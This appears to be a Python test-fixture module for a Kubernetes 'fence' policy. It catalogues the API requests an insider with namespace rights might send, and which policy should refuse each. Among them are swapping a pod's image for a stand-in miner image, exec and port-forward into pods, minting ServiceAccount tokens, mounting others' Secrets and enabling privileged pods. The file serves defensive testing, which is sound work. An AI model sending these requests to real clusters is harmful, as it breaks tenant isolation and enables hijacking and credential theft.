"""Attacks on a managed namespace of a member: what somebody with rights there would send, and which policy of the fence must refuse it.

Each is data: a method, a path and a body, in terms of what is found there."""

import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

Object = dict[str, Any]
JSON, MERGE, STRATEGIC, APPLY = (
    "application/json",
    "application/merge-patch+json",
    "application/strategic-merge-patch+json",
    "application/apply-patch+yaml",
)
DIGEST = "sha256:" + "ab" * 32
GRANTED = f"registry.example/serving/softmax@{DIGEST}"
"""The image that the model runs lawfully."""
EVIL = "evil.example/miner:latest"
SERVING = "/apis/serving.kserve.io/v1beta1"
ALPHA = "/apis/serving.kserve.io/v1alpha1"


@dataclass(frozen=True)
class Scene:
    """What an attacker finds: a model `scorer` that serves."""

    namespace: str
    pod: str
    node: str
    replica_set: str
    replica_set_uid: str
    elsewhere: str
    """A namespace that is not managed."""

    def fill(self, text: str) -> str:
        """With the names in place."""
        names = {"NS": self.namespace, "POD": self.pod, "NODE": self.node, "RS-UID": self.replica_set_uid}
        for word, value in {**names, "RS": self.replica_set, "ELSEWHERE": self.elsewhere}.items():
            text = text.replace(f"<{word}>", value)
        return text


@dataclass(frozen=True)
class Attack:
    """One request. `<POD>` and the like are filled in."""

    method: str
    path: str
    body: Object | None = None
    media: str = JSON
    refused_by: str = "writers"
    """The policy, by its short name."""
    says: str = ""
    """Part of the message."""

    def request(self, scene: Scene) -> tuple[str, str, bytes | None, str]:
        """Method, path, body and its type. A dry run where there are such: what is not refused must not do harm."""
        path = scene.fill(self.path)
        if self.refused_by != "connect":
            path += ("&" if "?" in path else "?") + "dryRun=All"
        body = scene.fill(json.dumps(self.body)).encode() if self.body is not None else None
        return self.method, path, body, self.media


def core(kind: str, name: str = "") -> str:
    return f"/api/v1/namespaces/<NS>/{kind}" + (f"/{name}" if name else "")


def apps(kind: str, name: str = "") -> str:
    return f"/apis/apps/v1/namespaces/<NS>/{kind}" + (f"/{name}" if name else "")


def meta(name: str = "intruder", **more: Any) -> Object:
    return {"name": name, "namespace": "<NS>", **more}


def container(image: str = EVIL, **more: Any) -> Object:
    """One that Pod Security `restricted` has nothing against."""
    limited = {
        "allowPrivilegeEscalation": False,
        "capabilities": {"drop": ["ALL"]},
        "runAsNonRoot": True,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    return {"name": "main", "image": image, "securityContext": limited, **more}


def pod(image: str = EVIL, *, metadata: Object | None = None, **spec: Any) -> Object:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": metadata or meta(),
        "spec": {"containers": [container(image)], **spec},
    }


LABELS = {"app": "isvc.scorer-predictor", "domicile.dev/model": "scorer"}
TEMPLATE = {"metadata": {"labels": {"app": "x"}}, "spec": {"containers": [container()]}}
JOB_TEMPLATE = {**TEMPLATE, "spec": {**TEMPLATE["spec"], "restartPolicy": "Never"}}
SELECTOR = {"matchLabels": {"app": "x"}}


def made(api_version: str, kind: str, spec: Object, name: str = "intruder", **more: Any) -> Object:
    return {"apiVersion": api_version, "kind": kind, "metadata": meta(name), "spec": spec, **more}


def service(predictor: Object, name: str = "intruder") -> Object:
    return made("serving.kserve.io/v1beta1", "InferenceService", {"predictor": predictor}, name)


OWNED = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "<RS>", "uid": "<RS-UID>", "controller": True}
MODEL_FORMAT = {"modelFormat": {"name": "softmax-json"}, "runtime": "scorer"}

PODS: Mapping[str, Attack] = {
    "a pod": Attack("POST", core("pods"), pod(), says="may not create pods"),
    "a pod of the image that is granted": Attack("POST", core("pods"), pod(GRANTED)),
    "a pod with the model's labels": Attack("POST", core("pods"), pod(GRANTED, metadata=meta(labels=LABELS))),
    "a pod that claims the ReplicaSet as its owner": Attack(
        "POST", core("pods"), pod(GRANTED, metadata=meta(labels=LABELS, ownerReferences=[OWNED]))
    ),
    "a pod as the model's ServiceAccount": Attack("POST", core("pods"), pod(serviceAccountName="scorer")),
    "a pod put on a node without the scheduler": Attack("POST", core("pods"), pod(nodeName="<NODE>")),
    "a pod without a name of its own": Attack(
        "POST", core("pods"), pod(metadata={"generateName": "fence-probe-", "namespace": "<NS>"})
    ),
    "a mirror pod": Attack(
        "POST",
        core("pods"),
        pod(metadata=meta(annotations={"kubernetes.io/config.mirror": "x"}), nodeName="<NODE>"),
    ),
    "a pod with an image volume": Attack(
        "POST", core("pods"), pod(GRANTED, volumes=[{"name": "v", "image": {"reference": EVIL}}])
    ),
    "a pod with another command": Attack(
        "POST", core("pods"), pod(GRANTED, containers=[container(GRANTED, command=["sh", "-c", "id"])])
    ),
    "another image in a running pod": Attack(
        "PATCH",
        core("pods", "<POD>"),
        {"spec": {"containers": [{"name": "kserve-container", "image": EVIL}]}},
        STRATEGIC,
        says="may not update pods",
    ),
    "a running pod hidden from its owner and from Domicile": Attack(
        "PATCH", core("pods", "<POD>"), {"metadata": {"labels": {"app": "x", "domicile.dev/model": None}}}, MERGE
    ),
    "a running pod without an owner": Attack(
        "PATCH", core("pods", "<POD>"), {"metadata": {"ownerReferences": None}}, MERGE
    ),
    "a running pod that cannot be deleted": Attack(
        "PATCH", core("pods", "<POD>"), {"metadata": {"finalizers": ["example.com/hold"]}}, MERGE
    ),
    "a running pod of another workload": Attack(
        "PATCH", core("pods", "<POD>"), {"metadata": {"annotations": {"domicile.dev/workload": "x"}}}, MERGE
    ),
    "a running pod hidden by way of its status": Attack(
        "PATCH", core("pods", "<POD>/status"), {"metadata": {"labels": {"domicile.dev/model": None}}}, MERGE
    ),
    "a pod that says it is well": Attack(
        "PATCH", core("pods", "<POD>/status"), {"status": {"phase": "Failed", "reason": "x"}}, MERGE
    ),
    "an ephemeral container": Attack(
        "PATCH",
        core("pods", "<POD>/ephemeralcontainers"),
        {"spec": {"ephemeralContainers": [container(GRANTED, name="debug")]}},
        STRATEGIC,
        says="nobody may",
    ),
    "a pod bound to a node": Attack(
        "POST",
        core("pods", "<POD>/binding"),
        {
            "apiVersion": "v1",
            "kind": "Binding",
            "metadata": meta("<POD>"),
            "target": {"kind": "Node", "name": "<NODE>"},
        },
    ),
}

WORKLOADS: Mapping[str, Attack] = {
    "a Deployment": Attack(
        "POST", apps("deployments"), made("apps/v1", "Deployment", {"selector": SELECTOR, "template": TEMPLATE})
    ),
    "another image in KServe's Deployment": Attack(
        "PATCH",
        apps("deployments", "scorer-predictor"),
        {"spec": {"template": {"spec": {"containers": [{"name": "kserve-container", "image": EVIL}]}}}},
        STRATEGIC,
    ),
    "another command in KServe's Deployment": Attack(
        "PATCH",
        apps("deployments", "scorer-predictor"),
        {"spec": {"template": {"spec": {"containers": [{"name": "kserve-container", "command": ["sh"]}]}}}},
        STRATEGIC,
    ),
    "a Secret of others in KServe's Deployment": Attack(
        "PATCH",
        apps("deployments", "scorer-predictor"),
        {"spec": {"template": {"spec": {"volumes": [{"name": "s", "secret": {"secretName": "foreign"}}]}}}},
        STRATEGIC,
    ),
    "more copies, by the Deployment": Attack(
        "PATCH", apps("deployments", "scorer-predictor"), {"spec": {"replicas": 9}}, MERGE
    ),
    "more copies, by its scale": Attack(
        "PATCH", apps("deployments", "scorer-predictor/scale"), {"spec": {"replicas": 9}}, MERGE
    ),
    "a Deployment that says it is rolled out": Attack(
        "PATCH", apps("deployments", "scorer-predictor/status"), {"status": {"collisionCount": 7}}, MERGE
    ),
    "a ReplicaSet": Attack(
        "POST", apps("replicasets"), made("apps/v1", "ReplicaSet", {"selector": SELECTOR, "template": TEMPLATE})
    ),
    "the Deployment's ReplicaSet changed": Attack(
        "PATCH",
        apps("replicasets", "<RS>"),
        {"spec": {"template": {"spec": {"containers": [{"name": "kserve-container", "image": EVIL}]}}}},
        STRATEGIC,
    ),
    "more copies, by the scale of the ReplicaSet": Attack(
        "PATCH", apps("replicasets", "<RS>/scale"), {"spec": {"replicas": 9}}, MERGE
    ),
    "a StatefulSet": Attack(
        "POST",
        apps("statefulsets"),
        made("apps/v1", "StatefulSet", {"selector": SELECTOR, "template": TEMPLATE, "serviceName": "x"}),
    ),
    "a DaemonSet": Attack(
        "POST", apps("daemonsets"), made("apps/v1", "DaemonSet", {"selector": SELECTOR, "template": TEMPLATE})
    ),
    "a Job": Attack("POST", "/apis/batch/v1/namespaces/<NS>/jobs", made("batch/v1", "Job", {"template": JOB_TEMPLATE})),
    "a CronJob": Attack(
        "POST",
        "/apis/batch/v1/namespaces/<NS>/cronjobs",
        made("batch/v1", "CronJob", {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": JOB_TEMPLATE}}}),
    ),
    "a ReplicationController": Attack(
        "POST",
        core("replicationcontrollers"),
        made("v1", "ReplicationController", {"selector": {"app": "x"}, "template": TEMPLATE}),
    ),
    "a PodTemplate": Attack(
        "POST",
        core("podtemplates"),
        {"apiVersion": "v1", "kind": "PodTemplate", "metadata": meta(), "template": TEMPLATE},
    ),
    "an autoscaler": Attack(
        "POST",
        "/apis/autoscaling/v2/namespaces/<NS>/horizontalpodautoscalers",
        made(
            "autoscaling/v2",
            "HorizontalPodAutoscaler",
            {
                "maxReplicas": 99,
                "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "scorer-predictor"},
            },
        ),
    ),
    "an autoscaler of another version": Attack(
        "POST",
        "/apis/autoscaling/v1/namespaces/<NS>/horizontalpodautoscalers",
        made(
            "autoscaling/v1",
            "HorizontalPodAutoscaler",
            {
                "maxReplicas": 99,
                "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "scorer-predictor"},
            },
        ),
    ),
}

OF_KSERVE: Mapping[str, Attack] = {
    "an InferenceService": Attack(
        "POST",
        f"{SERVING}/namespaces/<NS>/inferenceservices",
        service({"containers": [{"name": "kserve-container", "image": EVIL}]}),
    ),
    "another artifact": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer",
        {"spec": {"predictor": {"model": {"storageUri": f"oci://{EVIL}"}}}},
        MERGE,
    ),
    "another command": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer",
        {"spec": {"predictor": {"model": {"command": ["sh", "-c", "id"]}}}},
        MERGE,
    ),
    "another node": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer",
        {"spec": {"predictor": {"nodeSelector": {"kubernetes.io/hostname": "<NODE>"}}}},
        MERGE,
    ),
    "a transformer": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer",
        {"spec": {"transformer": {"containers": [{"name": "kserve-container", "image": EVIL}]}}},
        MERGE,
    ),
    "an InferenceService replaced by applying": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer?fieldManager=domicile&force=true",
        service({"model": {**MODEL_FORMAT, "storageUri": f"oci://{EVIL}"}}, "scorer"),
        APPLY,
    ),
    "the model's labels taken off": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer",
        {"metadata": {"labels": {"domicile.dev/model": None, "domicile.dev/model-uid": None}}},
        MERGE,
    ),
    "a finalizer that holds the model": Attack(
        "PATCH",
        f"{SERVING}/namespaces/<NS>/inferenceservices/scorer",
        {"metadata": {"finalizers": ["example.com/hold"]}},
        MERGE,
    ),
    "an InferenceService that says it is ready": Attack(
        "PATCH", f"{SERVING}/namespaces/<NS>/inferenceservices/scorer/status", {"status": {"url": "http://x"}}, MERGE
    ),
    "another image of the server": Attack(
        "PATCH",
        f"{ALPHA}/namespaces/<NS>/servingruntimes/scorer",
        {"spec": {"containers": [{"name": "kserve-container", "image": EVIL}]}},
        MERGE,
    ),
    "a ServingRuntime": Attack(
        "POST",
        f"{ALPHA}/namespaces/<NS>/servingruntimes",
        made(
            "serving.kserve.io/v1alpha1",
            "ServingRuntime",
            {
                "supportedModelFormats": [{"name": "x", "autoSelect": True}],
                "containers": [{"name": "kserve-container", "image": EVIL}],
            },
        ),
    ),
    "an InferenceGraph": Attack(
        "POST",
        f"{ALPHA}/namespaces/<NS>/inferencegraphs",
        made(
            "serving.kserve.io/v1alpha1",
            "InferenceGraph",
            {"nodes": {"root": {"routerType": "Sequence", "steps": [{"serviceName": "scorer"}]}}},
        ),
    ),
    "a TrainedModel": Attack(
        "POST",
        f"{ALPHA}/namespaces/<NS>/trainedmodels",
        made(
            "serving.kserve.io/v1alpha1",
            "TrainedModel",
            {
                "inferenceService": "scorer",
                "model": {"framework": "x", "memory": "1Gi", "storageUri": f"oci://{EVIL}"},
            },
        ),
    ),
}

IDENTITY_AND_NETWORK: Mapping[str, Attack] = {
    "another ServiceAccount": Attack(
        "POST", core("serviceaccounts"), {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta()}
    ),
    "pull credentials on the model's ServiceAccount": Attack(
        "PATCH", core("serviceaccounts", "scorer"), {"imagePullSecrets": [{"name": "mine"}]}, MERGE
    ),
    "a token of the model's ServiceAccount": Attack(
        "POST",
        core("serviceaccounts", "scorer/token"),
        {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": ["vault"]}},
    ),
    "a Secret that the control plane fills with such a token": Attack(
        "POST",
        core("secrets"),
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "type": "kubernetes.io/service-account-token",
            "metadata": meta(annotations={"kubernetes.io/service-account.name": "scorer"}),
        },
    ),
    "a Service": Attack(
        "POST",
        core("services"),
        made("v1", "Service", {"ports": [{"port": 80}], "selector": LABELS, "type": "NodePort"}),
    ),
    "annotations on the model's Service by way of its status": Attack(
        "PATCH",
        core("services", "scorer-predictor/status"),
        {"metadata": {"annotations": {"service.cilium.io/global": "true"}}},
        MERGE,
    ),
    "the model's Service led elsewhere": Attack(
        "PATCH", core("services", "scorer-predictor"), {"spec": {"selector": {"app": "x"}}}, MERGE
    ),
    "endpoints of others in the model's Service": Attack(
        "POST",
        "/apis/discovery.k8s.io/v1/namespaces/<NS>/endpointslices",
        {
            "apiVersion": "discovery.k8s.io/v1",
            "kind": "EndpointSlice",
            "metadata": meta(labels={"kubernetes.io/service-name": "scorer-predictor"}),
            "addressType": "IPv4",
            "endpoints": [{"addresses": ["203.0.113.7"]}],
        },
    ),
    "an Ingress": Attack(
        "POST",
        "/apis/networking.k8s.io/v1/namespaces/<NS>/ingresses",
        made(
            "networking.k8s.io/v1",
            "Ingress",
            {"defaultBackend": {"service": {"name": "scorer-predictor", "port": {"number": 80}}}},
        ),
    ),
    "a NetworkPolicy that lets everything out": Attack(
        "POST",
        "/apis/networking.k8s.io/v1/namespaces/<NS>/networkpolicies",
        made(
            "networking.k8s.io/v1",
            "NetworkPolicy",
            {"podSelector": {}, "policyTypes": ["Egress"], "egress": [{}]},
        ),
    ),
    "a larger quota": Attack("POST", core("resourcequotas"), made("v1", "ResourceQuota", {"hard": {"pods": "1000"}})),
    "other limits": Attack(
        "POST", core("limitranges"), made("v1", "LimitRange", {"limits": [{"type": "Pod", "max": {"cpu": "99"}}]})
    ),
}

ORPHAN = {"apiVersion": "v1", "kind": "DeleteOptions", "propagationPolicy": "Orphan"}
OLD_ORPHAN = {"apiVersion": "v1", "kind": "DeleteOptions", "orphanDependents": True}
LEFT_BEHIND: Mapping[str, Attack] = {
    "the InferenceService deleted, its pods left": Attack(
        "DELETE", f"{SERVING}/namespaces/<NS>/inferenceservices/scorer", ORPHAN, says="without an owner"
    ),
    "all InferenceServices deleted, their pods left": Attack(
        "DELETE", f"{SERVING}/namespaces/<NS>/inferenceservices", ORPHAN, says="without an owner"
    ),
    "the Deployment deleted, its pods left": Attack(
        "DELETE", apps("deployments", "scorer-predictor"), ORPHAN, says="without an owner"
    ),
    "the same by way of the query": Attack(
        "DELETE", apps("deployments", "scorer-predictor?propagationPolicy=Orphan"), says="without an owner"
    ),
    "the Deployment deleted, its pods left, as it used to be said": Attack(
        "DELETE", apps("deployments", "scorer-predictor"), OLD_ORPHAN, says="without an owner"
    ),
    "a pod forgotten while it runs": Attack(
        "DELETE", core("pods", "<POD>?gracePeriodSeconds=0"), says="with a grace period"
    ),
    "the ReplicaSet deleted, its pods left": Attack(
        "DELETE", apps("replicasets", "<RS>"), ORPHAN, says="without an owner"
    ),
}

CONNECTING: Mapping[str, Attack] = {
    "exec": Attack("POST", core("pods", "<POD>/exec?command=id&stdout=true"), refused_by="connect"),
    "exec by GET": Attack("GET", core("pods", "<POD>/exec?command=id&stdout=true"), refused_by="connect"),
    "attach": Attack("POST", core("pods", "<POD>/attach?stdin=true"), refused_by="connect"),
    "the proxy to a pod": Attack("GET", core("pods", "<POD>:8080/proxy/v2/models/scorer"), refused_by="connect"),
    "the proxy to a pod, with a question": Attack(
        "POST", core("pods", "<POD>:8080/proxy/v2/models/scorer/infer"), {"inputs": []}, refused_by="connect"
    ),
    "the proxy to its Service": Attack(
        "GET", core("services", "scorer-predictor:80/proxy/v2/models/scorer"), refused_by="connect"
    ),
    "port-forward": Attack("POST", core("pods", "<POD>/portforward?ports=8080"), refused_by="connect"),
}

NAMESPACE = "/api/v1/namespaces/<NS>"
UNMANAGED = {"metadata": {"labels": {"domicile.dev/managed": None}}}
ON_NAMESPACES: Mapping[str, Attack] = {
    "the label taken off": Attack("PATCH", NAMESPACE, UNMANAGED, MERGE, "namespaces"),
    "the label changed": Attack(
        "PATCH", NAMESPACE, {"metadata": {"labels": {"domicile.dev/managed": "True"}}}, MERGE, "namespaces"
    ),
    "the label taken off by way of the status": Attack("PATCH", f"{NAMESPACE}/status", UNMANAGED, MERGE, "namespaces"),
    "the label taken off by way of finalizing": Attack(
        "PUT",
        f"{NAMESPACE}/finalize",
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "<NS>"}, "spec": {"finalizers": []}},
        JSON,
        "namespaces",
    ),
    "privileged pods": Attack(
        "PATCH",
        NAMESPACE,
        {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
        MERGE,
        "namespaces",
    ),
    "a sidecar of a mesh": Attack(
        "PATCH", NAMESPACE, {"metadata": {"labels": {"istio-injection": "enabled"}}}, MERGE, "namespaces"
    ),
    "a managed namespace of one's own": Attack(
        "POST",
        "/api/v1/namespaces",
        {
            "apiVersion": "v1",
            "kind": "Namespace",
            "metadata": {"name": "of-ones-own", "labels": {"domicile.dev/managed": "true"}},
        },
        JSON,
        "namespaces",
    ),
    "another namespace made managed": Attack(
        "PATCH",
        "/api/v1/namespaces/<ELSEWHERE>",
        {"metadata": {"labels": {"domicile.dev/managed": "true"}}},
        MERGE,
        "namespaces",
    ),
}

BY_DOMICILE_ITSELF: Mapping[str, Attack] = {
    "an InferenceService outside": Attack(
        "POST",
        f"{SERVING}/namespaces/<ELSEWHERE>/inferenceservices",
        service({"containers": [{"name": "kserve-container", "image": EVIL}]})
        | {"metadata": {"name": "intruder", "namespace": "<ELSEWHERE>"}},
        refused_by="hub",
    ),
    "a ServingRuntime outside": Attack(
        "POST",
        f"{ALPHA}/namespaces/<ELSEWHERE>/servingruntimes",
        {
            "apiVersion": "serving.kserve.io/v1alpha1",
            "kind": "ServingRuntime",
            "metadata": {"name": "intruder", "namespace": "<ELSEWHERE>"},
            "spec": {"containers": [{"name": "kserve-container", "image": EVIL}]},
        },
        refused_by="hub",
    ),
    "a ServiceAccount outside": Attack(
        "POST",
        "/api/v1/namespaces/<ELSEWHERE>/serviceaccounts",
        {
            "apiVersion": "v1",
            "kind": "ServiceAccount",
            "metadata": {"name": "intruder", "namespace": "<ELSEWHERE>"},
        },
        refused_by="hub",
    ),
    "a namespace that is not managed": Attack(
        "POST",
        "/api/v1/namespaces",
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "intruder"}},
        refused_by="hub",
    ),
    "a namespace taken over": Attack(
        "PATCH",
        "/api/v1/namespaces/<ELSEWHERE>",
        {"metadata": {"labels": {"domicile.dev/managed": "true"}}},
        MERGE,
        "hub",
    ),
    "a managed namespace let go": Attack("PATCH", NAMESPACE, UNMANAGED, MERGE, "hub"),
}
"""With the token of the hub."""

IN_THE_NAMESPACE = {**PODS, **WORKLOADS, **OF_KSERVE, **IDENTITY_AND_NETWORK, **LEFT_BEHIND, **CONNECTING}
"""For whoever has all rights in the namespace."""
